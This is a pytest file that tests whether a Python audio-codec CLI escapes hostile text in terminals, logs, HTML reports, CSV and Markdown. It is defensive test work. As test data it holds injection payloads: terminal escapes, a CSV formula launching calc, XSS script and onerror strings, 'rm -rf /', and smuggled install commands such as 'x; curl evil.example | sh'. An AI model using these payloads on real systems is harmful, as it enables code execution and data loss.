"""Hostile text in every command: terminals, logs and reports show it escaped."""

from __future__ import annotations

import csv
import json
import logging
import re
import warnings
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
import soundfile
import yaml

import codecvq
from codecvq.cli.app import main
from codecvq.cli.console import ProgressLine, log_to_stderr, print_json, print_table, print_written
from codecvq.errors import install_advice
from codecvq.plugins import registry
from recipes import TINY, write_recipe

ESCAPES = "\x1b]0;owned\x07\x9b31m\u202e\u2028\r"
MARKUP = "[/b] \\[/b] [link=http://evil.example]x[/link] :smile:"
FORMULA = "=cmd|' /C calc'!A0"
HTML = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
MARKDOWN = "](javascript:alert(1)) `rm -rf /` | # h"
NASTY = f"{FORMULA}{ESCAPES}{MARKUP}{HTML}{MARKDOWN}"

Command = Callable[..., tuple[int, str, str]]

PLUGIN = """
from codecvq import MetricSpec, QuantizerSpec, hookimpl

NASTY = {nasty!r}

@hookimpl
def codecvq_metrics():
    texts = dict(unit=NASTY, summary=NASTY, reference=NASTY)
    yield MetricSpec(name="hostile", columns=(NASTY,), factory=make, **texts)
    yield MetricSpec(name="failing", columns=("failing",), factory=fails, default=False)

@hookimpl
def codecvq_quantizers():
    raise ValueError(NASTY)

def make():
    print(NASTY)
    return lambda reference, decoded, sample_rate: {{NASTY: 1.0}}

def fails():
    def measure(reference, decoded, sample_rate):
        raise ValueError(NASTY)
    return measure
"""


@pytest.fixture(autouse=True)
def registry_as_it_was() -> Iterator[None]:
    logger = logging.getLogger("codecvq")
    handlers, propagate, origins = logger.handlers, logger.propagate, set(registry().origins)
    yield
    logger.handlers, logger.propagate = handlers, propagate
    for name in set(registry().origins) - origins:
        registry().unregister(registry().origins[name])


@pytest.fixture
def command(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Command:
    """Run `codecvq …` in a folder and check its output. Returns exit code, stdout and stderr."""
    monkeypatch.chdir(tmp_path)

    def call(*arguments: object) -> tuple[int, str, str]:
        with pytest.raises(SystemExit) as leaving:
            main([str(argument) for argument in arguments])
        captured = capsys.readouterr()
        check_terminal(captured.out)
        check_terminal(captured.err.replace(NASTY, ""))  # output that the plugin prints itself is not escaped
        assert "Traceback" not in captured.err
        return int(leaving.value.code or 0), captured.out, captured.err

    return call


def check_terminal(text: str) -> None:
    """The text has only printable characters and line ends, and can be encoded."""
    assert [sign for sign in text if not sign.isprintable() and sign != "\n"] == []
    text.encode("utf-8")


class Page(HTMLParser):
    """A parser that fails at active elements and attributes."""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag not in {"script", "iframe", "object", "embed", "form", "base", "a"}
        for name, value in attributes:
            assert not name.startswith("on")
            assert name not in ("src", "href") or not (value or "").strip().lower().startswith("javascript")
            assert name != "src" or (value or "").startswith(("data:image/", "data:audio/", "audio/"))


def check_table(path: Path) -> None:
    """The CSV file has no formula and no escape sequence."""
    text = path.read_text(encoding="utf-8")
    check_terminal(text)
    for row in csv.reader(text.splitlines()):
        assert [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))] == []


def check_markdown(path: Path) -> None:
    """The Markdown file has no HTML and no links, and text does not end its code block."""
    text = path.read_text(encoding="utf-8")
    check_terminal(text)
    assert text.count("```") in (0, 2)
    outside = "".join(re.split(r"^```.*?^```$", text, flags=re.MULTILINE | re.DOTALL))
    assert re.findall(r"(?<!\\)<\w|(?<!\\)\]\(", outside) == []


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A codec, recordings, a manifest, a plugin and a recipe with hostile text everywhere."""
    recordings = tmp_path / "recordings"
    recordings.mkdir()
    noise = 0.1 * np.random.default_rng(0).standard_normal(8000)
    name = NASTY.replace("/", "")
    for i in range(2):
        soundfile.write(recordings / f"{i}{name[:90]}.wav", noise, 16000)
    (recordings / f"{name[:60]}broken.wav").write_text(NASTY)
    rows = [
        {"audio": str(path), "id": f"{i}{NASTY}", "speaker": f"{NASTY}{i}", "language": NASTY, "text": NASTY}
        | {NASTY: NASTY, "group": f"{NASTY}{i}"}
        for i, path in enumerate(sorted(recordings.iterdir()))
    ]
    (tmp_path / "manifest.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in rows))
    codec = codecvq.Codec(
        sample_rate=16000, network=TINY["network"], quantizer=TINY["quantizer"], name=NASTY[:150]
    )
    codec.save(tmp_path / "codec")
    (tmp_path / "hostile.py").write_text(PLUGIN.format(nasty=NASTY))
    write_recipe(tmp_path / "hostile.yaml", description=NASTY, plugins=[f"./{name[:90]}.py"])
    return tmp_path


def test_evaluate_compare_and_report_escape_text(command: Command, folder: Path) -> None:
    common = ("--split", "all", "--metrics", "hostile,failing", "--plugin", "./hostile.py")
    code, out, err = command("evaluate", "codec", "manifest.jsonl", *common, "--out", "out")
    assert code in (0, 1), err
    assert "<script>" in out, "the text is shown"
    page = (folder / "out/report/index.html").read_text(encoding="utf-8")
    Page().feed(page)
    check_terminal(page.replace("\t", " "))
    assert "&lt;script&gt;" in page
    check_table(folder / "out/report/clips.csv")
    code, out, err = command("evaluate", "codec", "manifest.jsonl", *common, "--out", "out", "--json")
    assert json.loads(out)["rows"][0]["speaker"].startswith(NASTY)
    code, out, err = command("compare", "codec", "--data", "manifest.jsonl", *common, "--group-by", "speaker")
    assert code in (0, 1), err
    check_table(folder / "comparison/clips.csv")
    check_markdown(folder / "comparison/comparison.md")
    command("compare", "codec", "--data", "manifest.jsonl", *common, "--json")


def test_coding_and_tokens_escape_text(command: Command, folder: Path) -> None:
    assert command("encode", "codec", "recordings", "--out", "small")[0] == 1
    assert command("encode", "codec", "recordings", "--out", "small", "--json")[0] == 1
    assert command("decode", "codec", "small", "--out", "back")[0] == 0
    command("decode", "codec", "recordings", "--out", "back")
    code, _, err = command("tokenize", "codec", "manifest.jsonl", "--out", "tokens")
    assert code in (0, 1), err
    check_markdown(folder / "tokens/README.md")
    front = yaml.safe_load((folder / "tokens/README.md").read_text(encoding="utf-8").split("---")[1])
    assert set(front) == {"configs", "tags"}, "invalid languages give no tag"
    command("detokenize", "codec", "tokens", "--out", "again")
    command("detokenize", "codec", "tokens", "--out", "again", "--ids", NASTY)
    command("encode", f"./{NASTY}", "recordings", "--out", "small")


def test_recipes_and_training_escape_text(command: Command, folder: Path) -> None:
    code, out, _ = command("recipes", "show", "hostile.yaml")
    assert code == 0
    assert "<script>" in out
    command("recipes", "show", "hostile.yaml", "--resolved")
    command("recipes", "show", "hostile.yaml", "--json")
    code, _, err = command("train", "hostile.yaml")
    assert code == 2
    assert "--plugin" in err
    for override in (f"quantizer.name={NASTY}", f"{NASTY}=1", f"corpus.name={json.dumps(NASTY)}"):
        assert command("train", "quickstart", override)[0] == 2
    (folder / "bad.yaml").write_bytes(b"description: \x1b[31m\xff\n")
    assert command("recipes", "show", "bad.yaml")[0] == 2
    assert command("train", "bad.yaml")[0] == 2


def test_plugins(command: Command, folder: Path) -> None:
    code, out, err = command("plugins", "list", "--plugin", "./hostile.py")
    assert code == 0
    assert "<script>" in out
    assert "warning: plugin file" in err
    command("plugins", "list", "--json")
    assert command("plugins", "show", "hostile")[0] == 0
    assert command("plugins", "show", NASTY)[0] == 2
    assert command("plugins", "doctor")[0] == 1
    assert command("plugins", "check", NASTY)[0] == 2
    assert command("plugins", "list", "--plugin", NASTY)[0] == 2


def test_logs_warnings_progress_and_tables_escape_text(capsys: pytest.CaptureFixture[str]) -> None:
    with warnings.catch_warnings():
        log_to_stderr()
        logging.getLogger("codecvq").warning("%s\nerror: made up", NASTY)
        warnings.warn(NASTY, stacklevel=1)
        ProgressLine().show(f"{NASTY}\n", final=True)
        print_table([NASTY], [[NASTY], ["\\[/b]"]], title=NASTY)
        print_written((NASTY, NASTY))
        print_json({NASTY: "ä \ud800 \U0001f3a4 \u3000 \u202e \U000e0001"})
    captured = capsys.readouterr()
    check_terminal(captured.out.replace("\u3000", " "))
    check_terminal(captured.err)
    lines = captured.err.splitlines()
    assert [line.startswith("warning: ") for line in lines] == [True, True, False]
    assert "\\[/b]" in captured.out
    assert ":smile:" in captured.out
    shown = json.loads(captured.out[captured.out.index("\n{\n") :])
    assert shown[NASTY] == "ä \ud800 \U0001f3a4 \u3000 \u202e \U000e0001"


@pytest.mark.parametrize(
    ("name", "advice"),
    [
        ("codecvq-ternary", "pip install codecvq-ternary"),
        ("--index-url=http://evil.example x", "not a valid package name"),
        ("x; curl evil.example | sh", "not a valid package name"),
        ("x\n", "not a valid package name"),
        ("", "not a valid package name"),
        ("git+https://evil.example/x", "not a valid package name"),
    ],
)
def test_installation_advice_contains_only_valid_package_names(name: str, advice: str) -> None:
    assert advice in install_advice(name)
    assert ("pip install" in install_advice(name)) == ("pip install" in advice)


def test_a_codec_cannot_add_commands_to_installation_advice(command: Command, folder: Path) -> None:
    config = json.loads((folder / "codec/config.json").read_text())
    config["quantizer"]["name"] = config["plugins"]["quantizer"]["name"] = "their_vq"
    config["plugins"]["quantizer"] |= {"plugin": "--index-url=http://evil.example x; curl evil | sh"}
    (folder / "codec/config.json").write_text(json.dumps(config))
    code, _, err = command("encode", "codec", "recordings", "--out", "small")
    assert code == 2
    assert "their_vq" in err
    assert "pip install" not in err
